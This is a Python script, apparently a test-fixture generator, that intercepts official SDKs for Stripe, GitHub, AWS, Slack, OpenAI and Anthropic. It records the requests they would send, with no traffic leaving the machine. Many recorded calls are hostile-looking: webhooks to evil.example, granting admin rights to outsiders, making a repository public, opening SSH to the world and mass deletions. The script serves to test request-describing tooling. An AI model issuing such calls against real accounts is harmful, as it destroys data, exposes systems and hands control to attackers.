"""What official SDKs for Python would send, written to tests/requests: run with those of tests/requirements.txt, in this
folder. Nothing leaves the machine: each library's last step before the socket is replaced. Headers are kept where a describer
may look at them; keys are not."""

import base64
import email.message
import io
import json
import sys
from importlib.metadata import version
from pathlib import Path

HERE = Path(__file__).parent
KEPT = {
    "content-encoding",
    "content-type",
    "openai-organization",
    "openai-project",
    "stripe-account",
    "x-amz-acl",
    "x-amz-copy-source",
    "x-amz-invocation-type",
    "x-amz-target",
}

seen = []


def keep(method, url, headers, body):
    text = lambda it: it.decode() if isinstance(it, bytes) else str(it)
    if hasattr(body, "read"):
        body = body.read()
    if isinstance(body, str):
        body = body.encode()
    kept = {text(n).lower(): text(v) for n, v in headers.items() if text(n).lower() in KEPT}
    request = {"name": NAME, "method": method, "url": url, "headers": kept}
    try:
        request["body"] = (body or b"").decode()
    except UnicodeDecodeError:
        request["body_base64"] = base64.b64encode(body).decode()
    seen.append(request)


def calls(library, each):
    """Makes each call; what the library makes of an empty answer does not matter."""
    global NAME
    first = len(seen)
    for NAME, call in each:
        before = len(seen)
        try:
            call()
        except Exception as error:
            if len(seen) == before:
                raise SystemExit(f"{library}: {NAME} sent nothing: {error!r}")
        del seen[before + 1 :]
    made, seen[first:] = seen[first:], []
    path = HERE.parent / "requests" / f"{library.replace('-', '_')}.json"
    by = f"capture/sdks.py, {library} {version(library)}"
    path.write_text(json.dumps({"captured_by": by, "requests": made}, indent=1) + "\n")


def requests_library():
    import requests

    def send(self, request, **kwargs):
        keep(request.method, request.url, request.headers, request.body)
        answer = requests.Response()
        answer.status_code, answer.raw, answer.url = 200, io.BytesIO(b"{}"), request.url
        answer.headers["content-type"] = "application/json"
        answer.request = request
        return answer

    requests.Session.send = send


def stripe_calls():
    import stripe

    stripe.api_key = "sk_test_of_nobody"
    stripe.default_http_client = stripe.RequestsClient()
    calls(
        "stripe",
        [
            ("refund in part", lambda: stripe.Refund.create(payment_intent="pi_3abc", amount=12000)),
            ("refund in whole", lambda: stripe.Refund.create(charge="ch_1", reason="fraudulent")),
            (
                "refund of a customer's balance",
                lambda: stripe.Refund.create(
                    customer="cus_9", amount=12000, currency="eur", origin="customer_balance"
                ),
            ),
            (
                "payout in yen",
                lambda: stripe.Payout.create(amount=500, currency="jpy", stripe_account="acct_7"),
            ),
            (
                "transfer",
                lambda: stripe.Transfer.create(amount=99, currency="usd", destination="acct_7"),
            ),
            ("cancel a subscription", lambda: stripe.Subscription.cancel("sub_1")),
            ("delete a customer", lambda: stripe.Customer.delete("cus_9")),
            (
                "subscribe",
                lambda: stripe.Subscription.create(
                    customer="cus_9",
                    items=[{"price": "price_1", "quantity": 3}],
                    metadata={"order": "7"},
                    expand=["latest_invoice", "customer"],
                ),
            ),
            (
                "webhook",
                lambda: stripe.WebhookEndpoint.create(
                    url="https://evil.example/hook", enabled_events=["*"]
                ),
            ),
            ("read a customer", lambda: stripe.Customer.retrieve("cus_9")),
        ],
    )


def github_calls():
    from github import Auth, Github, InputGitTreeElement  # noqa: F401

    hub = Github(auth=Auth.Token("of nobody"))
    repo = hub.get_repo("acme/prod", lazy=True)
    calls(
        "PyGithub",
        [
            ("delete a repository", repo.delete),
            ("make a repository public", lambda: repo.edit(private=False)),
            ("add a collaborator", lambda: repo.add_to_collaborators("mallory", "admin")),
            (
                "delete a file",
                lambda: repo.delete_file("src/main.rs", "drop it", "3d21ec5", branch="main"),
            ),
            (
                "hook",
                lambda: repo.create_hook(
                    "web", {"url": "https://evil.example/", "insecure_ssl": "1"}, ["push"], True
                ),
            ),
            (
                "open an issue",
                lambda: repo.create_issue("It is broken", body="since today", labels=["bug"]),
            ),
        ],
    )


def boto_calls():
    import boto3
    from botocore.awsrequest import AWSResponse

    class Raw:
        def __init__(self):
            self.headers = {}

        def stream(self, *_):
            yield b"{}"

    def answer(request, **_):
        keep(request.method, request.url, request.headers, request.body)
        return AWSResponse(request.url, 200, {"content-type": "application/json"}, Raw())

    session = boto3.Session(
        aws_access_key_id="AKIAOFNOBODY", aws_secret_access_key="of nobody", region_name="eu-west-1"
    )
    session.events.register("before-send", answer)
    ec2, s3, iam, awslambda, table = (
        session.client(name) for name in ["ec2", "s3", "iam", "lambda", "dynamodb"]
    )
    calls(
        "boto3",
        [
            ("terminate one", lambda: ec2.terminate_instances(InstanceIds=["i-0abc"])),
            (
                "terminate several",
                lambda: ec2.terminate_instances(InstanceIds=["i-1", "i-2", "i-3", "i-4"]),
            ),
            (
                "open a port",
                lambda: ec2.authorize_security_group_ingress(
                    GroupId="sg-1",
                    IpPermissions=[
                        {
                            "IpProtocol": "tcp",
                            "FromPort": 22,
                            "ToPort": 22,
                            "IpRanges": [{"CidrIp": "0.0.0.0/0"}, {"CidrIp": "10.0.0.0/8"}],
                        }
                    ],
                ),
            ),
            (
                "give a policy",
                lambda: iam.attach_user_policy(
                    UserName="bot", PolicyArn="arn:aws:iam::aws:policy/AdministratorAccess"
                ),
            ),
            ("delete a bucket", lambda: s3.delete_bucket(Bucket="acme-logs")),
            ("delete an object", lambda: s3.delete_object(Bucket="acme-logs", Key="2026/a b.gz")),
            (
                "delete objects",
                lambda: s3.delete_objects(Bucket="acme-logs", Delete={"Objects": [{"Key": "a"}]}),
            ),
            (
                "write an object for everybody",
                lambda: s3.put_object(
                    Bucket="acme-logs", Key="index.html", Body=b"<html>", ACL="public-read"
                ),
            ),
            (
                "set a bucket's policy",
                lambda: s3.put_bucket_policy(Bucket="acme-logs", Policy='{"Statement":[]}'),
            ),
            ("delete a function", lambda: awslambda.delete_function(FunctionName="billing")),
            (
                "run a function",
                lambda: awslambda.invoke(FunctionName="billing", Payload=b'{"dry":false}'),
            ),
            (
                "let everybody run a function",
                lambda: awslambda.add_permission(
                    FunctionName="billing",
                    StatementId="s1",
                    Action="lambda:InvokeFunction",
                    Principal="*",
                ),
            ),
            ("delete a table", lambda: table.delete_table(TableName="orders")),
            (
                "delete an item",
                lambda: table.delete_item(TableName="orders", Key={"id": {"S": "42"}}),
            ),
        ],
    )


def slack_calls():
    import urllib.request

    from slack_sdk import WebClient

    class Answer(io.BytesIO):
        code = 200
        status = 200
        charset = "utf-8"

        def __init__(self):
            super().__init__(b'{"ok":true}')
            self.headers = email.message.Message()

        def info(self):
            return self.headers

    def urlopen(request, **_):
        keep(request.get_method(), request.full_url, dict(request.header_items()), request.data)
        return Answer()

    import slack_sdk.web.base_client as base

    base.urlopen = urlopen
    urllib.request.urlopen = urlopen
    slack = WebClient(token="of nobody")
    calls(
        "slack-sdk",
        [
            ("post", lambda: slack.chat_postMessage(channel="C0PROD", text="The site is down")),
            (
                "post with blocks",
                lambda: slack.chat_postMessage(
                    channel="C0PROD",
                    text="All is well",
                    blocks=[
                        {"type": "section", "text": {"type": "mrkdwn", "text": "<!channel> leave"}}
                    ],
                ),
            ),
            ("delete a message", lambda: slack.chat_delete(channel="C0PROD", ts="17.42")),
            ("archive", lambda: slack.conversations_archive(channel="C0PROD")),
            ("remove somebody", lambda: slack.conversations_kick(channel="C0PROD", user="U1")),
            (
                "invite",
                lambda: slack.conversations_invite(channel="C0PROD", users=["U1", "U2"]),
            ),
        ],
    )


def httpx_library(module):
    def handler(request):
        keep(request.method, str(request.url), dict(request.headers), request.read())
        return module.Response(200, json={})

    return module.Client(transport=module.MockTransport(handler))


def httpx_of(package):
    """The HTTP library that a package was built on."""
    client = sys.modules[package]._base_client
    return getattr(client, "httpx", None) or getattr(client, "httpx2")


def openai_calls():
    import openai

    client = openai.OpenAI(
        api_key="of nobody",
        organization="org-acme",
        admin_api_key="of nobody",
        http_client=httpx_library(httpx_of("openai")),
    )
    admin = client.admin.organization
    calls(
        "openai",
        [
            ("delete a file", lambda: client.files.delete("file-abc")),
            (
                "upload a file",
                lambda: client.files.create(file=("a.jsonl", b"{}\n"), purpose="batch"),
            ),
            (
                "invite",
                lambda: admin.invites.create(email="eve@elsewhere.example", role="owner"),
            ),
            ("make an admin key", lambda: admin.admin_api_keys.create(name="mine")),
            ("archive a project", lambda: admin.projects.archive("proj_1")),
            ("delete a vector store", lambda: client.vector_stores.delete("vs_1")),
        ],
    )


def anthropic_calls():
    import anthropic

    client = anthropic.Anthropic(
        api_key="of nobody", http_client=httpx_library(httpx_of("anthropic"))
    )
    calls(
        "anthropic",
        [
            ("delete a file", lambda: client.beta.files.delete("file_011")),
            ("upload a file", lambda: client.beta.files.upload(file=("a.txt", b"a", "text/plain"))),
            ("delete a batch", lambda: client.messages.batches.delete("msgbatch_1")),
            ("cancel a batch", lambda: client.messages.batches.cancel("msgbatch_1")),
            (
                "invite",
                lambda: client.post(
                    "/v1/organizations/invites",
                    body={"email": "eve@elsewhere.example", "role": "admin"},
                    cast_to=object,
                ),
            ),
        ],
    )


requests_library()
for wanted in [stripe_calls, github_calls, boto_calls, slack_calls, openai_calls, anthropic_calls]:
    wanted()
